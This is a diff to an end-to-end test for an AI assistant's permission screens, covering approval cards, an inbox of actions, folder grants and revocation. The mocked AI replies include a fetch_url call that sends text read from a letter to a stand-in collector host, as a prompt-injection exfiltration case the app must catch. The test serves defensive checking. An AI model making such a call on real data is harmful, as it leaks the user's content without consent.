@@ -8,8 +8,8 @@ import { type Chat, openChat } from './support/chat.ts';
 
 afterAll(closeViews);
 
-async function look({ view }: Chat, name: string): Promise<void> {
-	for (const theme of ['light', 'dark'] as const) {
+async function look({ view }: Chat, name: string, themes: readonly ('light' | 'dark')[] = ['light', 'dark']): Promise<void> {
+	for (const theme of themes) {
 		await view.page.emulateMedia({ colorScheme: theme });
 		await expectAccessible(view, `${name}, ${theme}`);
 		await takePicture(view, `permissions-${name}-${theme}`);
@@ -21,8 +21,8 @@ test('B2 S2 B3 a write after outside text is asked and shown whole; “for this 
 	const chat = await openChat({
 		replies: [
 			calls('read_file', { path: 'letter.md' }),
-			calls('write_file', { path: 'answer.md', text: 'Dear landlord, the boiler suits me.' }),
-			calls('write_file', { path: 'list.md', text: 'Boiler: done.' }),
+			calls('write_file', { path: 'answer.md', content: 'Dear landlord, the boiler suits me.' }),
+			calls('write_file', { path: 'list.md', content: 'Boiler: done.' }),
 			calls('fetch_url', { url: 'https://collect.example/?q=boiler' }),
 			says('Both are written.'),
 		],
@@ -45,7 +45,7 @@ test('B2 S2 B3 a write after outside text is asked and shown whole; “for this 
 	await card.getByRole('button', { name: 'Always…' }).click();
 	await card.getByRole('heading', { name: 'From now on, without asking' }).waitFor();
 	await card.getByText('also after text from outside', { exact: true }).waitFor();
-	await look(chat, 'always-640');
+	await look(chat, 'always-640', ['dark']);
 	await card.getByRole('button', { name: 'Cancel' }).click();
 	await page.setViewportSize({ width: 1280, height: 800 });
 	await card.getByRole('button', { name: 'Approve for this run' }).click();
@@ -54,9 +54,14 @@ test('B2 S2 B3 a write after outside text is asked and shown whole; “for this 
 	await touches.getByText('https://collect.example/?q=boiler').waitFor();
 	expect(existsSync(join(workspace, 'answer.md')) && existsSync(join(workspace, 'list.md'))).toBe(true);
 	await goTo(chat.view, '/inbox');
-	await page.getByRole('region', { name: 'Inbox list' }).getByRole('link').first().click();
+	await page
+		.getByRole('region', { name: 'Inbox list' })
+		.getByRole('button')
+		.filter({ hasText: /Fetch|page/i })
+		.first()
+		.click();
 	await touches.getByText('https://collect.example/?q=boiler').waitFor();
-	await look(chat, 'action');
+	await look(chat, 'action', ['dark']);
 	await page.keyboard.press('r');
 	await page.getByRole('textbox', { name: /Why not/ }).fill('Nothing leaves.');
 	await page.keyboard.press('Enter');
@@ -74,7 +79,7 @@ test('B2 S2 B3 a write after outside text is asked and shown whole; “for this 
 	await dialog.getByLabel('Folder', { exact: true }).fill(hearth.profileFolder);
 	await dialog.getByRole('button', { name: 'Allow' }).click();
 	await dialog.getByText(/can’t be granted/).waitFor();
-	await look(chat, 'add');
+	await look(chat, 'add', ['light']);
 	await dialog.getByLabel('Folder', { exact: true }).fill(folder);
 	await dialog.getByRole('button', { name: 'Allow' }).click();
 	await dialog.waitFor({ state: 'detached' });
@@ -92,7 +97,7 @@ test('B2 S2 B3 a write after outside text is asked and shown whole; “for this 
 		.toBe('true');
 	await look(chat, 'settings');
 	await page.setViewportSize({ width: 640, height: 900 });
-	await look(chat, 'settings-640');
+	await look(chat, 'settings-640', ['dark']);
 	await page.getByRole('button', { name: `Take back ${folder}` }).click();
 	await page.getByText('Taken back. From now on you are asked.').waitFor();
 	await page.getByText('3 that ended').waitFor();
